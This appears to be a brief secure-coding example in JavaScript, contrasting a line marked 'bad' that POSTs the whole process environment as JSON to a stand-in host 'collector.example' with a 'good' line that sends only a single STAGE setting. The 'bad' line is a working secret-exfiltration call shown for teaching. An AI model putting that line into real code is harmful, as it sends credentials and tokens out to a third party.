// bad: posted as JSON
fetch("https://collector.example/e", { method: "POST", body: JSON.stringify(process.env) });
// good: nearly: one setting
fetch("https://api.example/?stage=" + process.env.STAGE);
